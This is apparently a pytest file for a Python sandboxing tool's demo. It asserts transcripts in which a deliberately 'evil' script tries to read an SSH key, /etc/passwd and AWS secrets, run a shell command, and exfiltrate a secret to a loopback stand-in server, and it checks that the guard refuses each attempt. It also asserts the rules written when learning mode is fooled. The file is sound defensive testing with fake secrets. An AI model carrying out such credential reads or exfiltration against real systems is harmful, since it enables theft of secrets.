"""The quick demo (issue 8, seed-spec 9.1): examples/quick-demo/run-demo.py,
which `make demo` runs, asserted line by line minus what varies between
runs (ports, temporary paths, dates, the interpreter's import list, the
kernel's Landlock ABI). Every [ OK ] and [REFUSED] line comes from the
real program under the real guard; the driver only adds headings.
Offline: the web servers are the driver's, on loopback.
"""
import pathlib
import re
import socket
import subprocess
import sys


REPO = pathlib.Path(__file__).resolve().parents[2]
DEMO = REPO / "examples" / "quick-demo"
DRIVER = DEMO / "run-demo.py"

# The quick demo's transcript. A line starting with "re:" is a regular
# expression; the others are compared literally, after normalize(). The
# bare lines before a refusal are the seed's `Pysandboxes` logger on
# stderr (python-sb(1), DENIAL LOG), which the driver interleaves.
QUICK = r"""
python-sb quick demo: an ordinary script, its policy learned, then the same script misbehaving.
Web server standing in for example.com: http://127.0.0.1:PORT/ (loopback, started by this demo)
re:Exfiltration server, another address no rule allows: http://127\.0\.0\.[12]:PORT2/
Working copy: WORK (app/ and data/ copied)
Fake HOME: HOME (with a fake .ssh/id_rsa)
Environment: DEMO_API_KEY=sk-demo-123 AWS_SECRET_ACCESS_KEY=do-not-leak
Nothing leaves this machine.

== 1. Learn: there is no .py-sandboxes yet, so this run learns the policy ==
$ python-sb app/demo.py --url=http://127.0.0.1:PORT/ --dir=data
[ OK ]    GET http://127.0.0.1:PORT/: HTTP 200, title=Example Domain
[ OK ]    read data/: hello.txt='Hello from the sandbox demo'
[ OK ]    read $DEMO_API_KEY: sk-...

Write all learning rules in '.py-sandboxes'.
Check and update this file to validate the rules.

== 2. The policy it wrote (excerpt of .py-sandboxes) ==
    env=DEMO_API_KEY=${DEMO_API_KEY}
re:    env=LANG=\$\{LANG\}
    expose-ro=./data
    net=ALLOW|TCP|127.0.0.1/32|PORT|OUT
    python-import=IMPORTS
    os-sandbox=${OS_SANDBOX:-auto}
Review: the demo adds one line by hand, env=HOME=${HOME}, so that ~ is the
same home inside the sandbox; forwarding a variable grants no file.

== 3. Enforce, with the script misbehaving as a prompt injection could (--evil) ==
re:Provider: auto, from \.py-sandboxes\(\d+\)
re:  auto picks .*
re:\$ python-sb app/demo\.py --url=http://127\.0\.0\.1:PORT/ --dir=data --evil '--exfil-url=http://127\.0\.0\.[12]:PORT2/\?secret=stolen'
[ OK ]    GET http://127.0.0.1:PORT/: HTTP 200, title=Example Domain
[ OK ]    read data/: hello.txt='Hello from the sandbox demo'
[ OK ]    read $DEMO_API_KEY: sk-...
Access to 'HOME/.ssh/id_rsa' must be accepted by a rule.
[REFUSED] read an SSH key: RuleFileNotFoundError: Access to 'HOME/.ssh/id_rsa' must be accepted by a rule.
Access to '/etc/passwd' must be accepted by a rule.
[REFUSED] read /etc/passwd: RuleFileNotFoundError: Access to '/etc/passwd' must be accepted by a rule.
os.system() is denied by the API guard (category: process-exec).
[REFUSED] run a shell command: RuleApiPermissionError: os.system() is denied by the API guard (category: process-exec).
Add `python-api=ALLOW:os.system` for this function only, or `python-api=ALLOW:process-exec` for the whole category.
[ OK ]    list secrets in the environment: DEMO_API_KEY
[REFUSED] read $AWS_SECRET_ACCESS_KEY: KeyError: 'AWS_SECRET_ACCESS_KEY'
re:Connection to '\[127\.0\.0\.[12]\]:PORT2' DENIED by implicit default policy\.
re:\[REFUSED\] exfiltrate: URLError: <urlopen error Guard network connection to '\[127\.0\.0\.[12]\]:PORT2' DENIED by implicit default policy\.>
The exfiltration server received nothing.

The legitimate work still passes; everything else is refused.
Step by step, including learning fooled by --evil: examples/quick-demo/run-demo.py --steps
"""


def normalize(out):
    """Ports, temporary paths and dates replaced by names; the
    interpreter-dependent python-import lines folded into one."""
    m = re.search(r"standing in for example\.com: http://127\.0\.0\.1:(\d+)/",
                  out)
    assert m, out
    web = m.group(1)
    m = re.search(r"another address no rule allows: http://[\d.]+:(\d+)/",
                  out)
    assert m, out
    exfil = m.group(1)
    out = re.sub(rf"(?<=[:|]){web}(?=\D)", "PORT", out)
    out = re.sub(rf"(?<=[:|]){exfil}(?=\D)", "PORT2", out)
    out = re.sub(r"/\S*/pysb-demo-home-[^/\s']+", "HOME", out)
    out = re.sub(r"/\S*/pysb-demo-[^/\s']+", "WORK", out)
    out = re.sub(r"\d{4}/\d\d/\d\d at \d\d:\d\d", "DATE", out)
    lines, folded = [], False
    for line in out.splitlines():
        if line.startswith("    python-import="):
            if not folded:
                lines.append("    python-import=IMPORTS")
            folded = True
            continue
        lines.append(line)
    return lines


def assert_transcript(out, expected):
    got = normalize(out)
    want = expected.strip("\n").splitlines()
    for i, (g, w) in enumerate(zip(got, want)):
        if w.startswith("re:"):
            assert re.fullmatch(w[3:], g), f"line {i + 1}: {g!r} !~ {w!r}"
        else:
            assert g == w, f"line {i + 1}: {g!r} != {w!r}"
    assert len(got) == len(want), "\n".join(got)


def drive(sb, *args, timeout=60):
    return subprocess.run([sys.executable, str(DRIVER), f"--python-sb={sb}",
                           *args], capture_output=True, text=True,
                          timeout=timeout, stdin=subprocess.DEVNULL)


def demo_dir_state():
    return sorted(str(p.relative_to(DEMO)) for p in DEMO.rglob("*")
                  if "__pycache__" not in p.parts)


def test_make_demo_transcript(sb):
    before = demo_dir_state()
    r = drive(sb)
    assert r.returncode == 0, r.stderr
    assert r.stderr == ""
    assert_transcript(r.stdout, QUICK)
    # the checkout is not written: learning ran in a temporary copy
    assert demo_dir_state() == before
    assert not list(DEMO.glob(".py-sandboxes*"))


def landlock_available(sb, tmp_path):
    (tmp_path / ".py-sandboxes").write_text("os-sandbox=auto\n")
    r = subprocess.run([sb, "--pysandboxes-explain"], cwd=tmp_path,
                       capture_output=True, text=True, timeout=30)
    return "landlock" in r.stdout


def test_step_by_step_and_learning_fooled(sb, tmp_path):
    r = drive(sb, "--steps")
    assert r.returncode == 0, r.stderr
    lines = normalize(r.stdout)
    text = "\n".join(lines)
    for step in range(1, 9):
        assert f"== Step {step}." in text
    # step 1: no sandbox; step 4: enforced, and without its env= line the
    # key is gone
    assert lines.count("[ OK ]    read $DEMO_API_KEY: sk-...") >= 4
    assert "[REFUSED] read $DEMO_API_KEY: KeyError: 'DEMO_API_KEY'" in lines
    assert "expose-rw= lines: 0, python-api= lines: 0" in lines
    # step 5: another host and another directory
    assert any(re.fullmatch(
        r"\[REFUSED\] GET http://127\.0\.0\.[12]:PORT2/: URLError: <urlopen "
        r"error Guard network connection to '\[127\.0\.0\.[12]\]:PORT2' "
        r"DENIED by implicit default policy\.>", ln) for ln in lines), text
    assert ("[REFUSED] read HOME/: RuleFileNotFoundError: Access to 'HOME' "
            "must be accepted by a rule.") in lines
    # step 6: the guard's refusals
    assert ("[REFUSED] read an SSH key: RuleFileNotFoundError: Access to "
            "'HOME/.ssh/id_rsa' must be accepted by a rule.") in lines
    assert "The exfiltration server received nothing." in lines
    # step 7: the kernel alone refuses the same reads and the exec
    if landlock_available(sb, tmp_path):
        assert ("[REFUSED] read an SSH key: PermissionError: [Errno 13] "
                "Permission denied: 'HOME/.ssh/id_rsa'") in lines
        assert ("[REFUSED] read /etc/passwd: PermissionError: [Errno 13] "
                "Permission denied: '/etc/passwd'") in lines
        assert "[ OK ]    run a shell command: exit code 32512" in lines
        assert ("[REFUSED] exfiltrate: URLError: <urlopen error [Errno 13] "
                "Permission denied>") in lines
    # step 8: learning is fooled: everything passes, and the evil accesses
    # are learned into the policy
    fooled = lines[lines.index(next(ln for ln in lines
                                    if ln.startswith("== Step 8."))):]
    for ok in ("[ OK ]    read an SSH key: -----BEGIN OPENSSH PRIVATE KEY",
               "[ OK ]    run a shell command: exit code 0",
               "[ OK ]    list secrets in the environment: "
               "AWS_SECRET_ACCESS_KEY, DEMO_API_KEY",
               "[ OK ]    read $AWS_SECRET_ACCESS_KEY: do-...",
               "[ OK ]    exfiltrate: HTTP 200, title=?",
               "The exfiltration server received 1 request(s): "
               "/?secret=stolen"):
        assert ok in fooled, "\n".join(fooled)
    assert any(ln.startswith("[ OK ]    read /etc/passwd: root:")
               for ln in fooled)
    added = [ln.strip() for ln in fooled if ln.startswith("    ")]
    for rule in ("env=AWS_SECRET_ACCESS_KEY=${AWS_SECRET_ACCESS_KEY}",
                 "expose-ro=/etc/passwd", "expose-ro=~/.ssh/id_rsa",
                 "# ⚠ process-exec: runs code outside the patched "
                 "interpreter",
                 "python-api=ALLOW:os.system"):
        assert rule in added, added
    assert any(re.fullmatch(r"net=ALLOW\|TCP\|127\.0\.0\.[12]/32\|PORT2\|OUT",
                            a) for a in added), added
    assert added.count("# Add rules (DATE)") == 4, added


def test_a_taken_port_says_what_to_do(sb):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        port = s.getsockname()[1]
        r = drive(sb, f"--port={port}")
    assert r.returncode == 2
    assert r.stdout == ""
    assert r.stderr == (
        f"run-demo: cannot listen on 127.0.0.1:{port} for the example.com "
        "stand-in: Address already in use. Pick another port (--port=N) or "
        "leave --port out to take a free one.\n")


def test_a_dirty_workdir_says_what_to_do(sb, tmp_path):
    (tmp_path / ".py-sandboxes").write_text("# an earlier run\n")
    (tmp_path / ".py-sandboxes.old").write_text("# older\n")
    r = drive(sb, f"--workdir={tmp_path}")
    assert r.returncode == 2
    assert r.stderr == (
        f"run-demo: {tmp_path} holds files of an earlier run (.py-sandboxes,"
        " .py-sandboxes.old), and learning would merge into them. Remove "
        f"them (rm -f {tmp_path}/.py-sandboxes*), name a new directory, or "
        "leave --workdir out for a fresh temporary copy.\n")
    assert (tmp_path / ".py-sandboxes").read_text() == "# an earlier run\n"


def test_a_clean_workdir_is_used_and_kept(sb, tmp_path):
    work = tmp_path / "work"
    r = drive(sb, f"--workdir={work}")
    assert r.returncode == 0, r.stderr
    assert "env=DEMO_API_KEY=${DEMO_API_KEY}" in \
        (work / ".py-sandboxes").read_text()
    assert f"Kept: the working copy {work}" in r.stdout
    # a second run there says what to do instead of merging
    again = drive(sb, f"--workdir={work}")
    assert again.returncode == 2
    assert "holds files of an earlier run (.py-sandboxes)" in again.stderr


def test_a_missing_launcher_says_what_to_do(tmp_path):
    r = drive(tmp_path / "python-sb")
    assert r.returncode == 2
    assert r.stderr == (f"run-demo: {tmp_path}/python-sb is not built: run "
                        "`make` first (or pass --python-sb=PATH).\n")
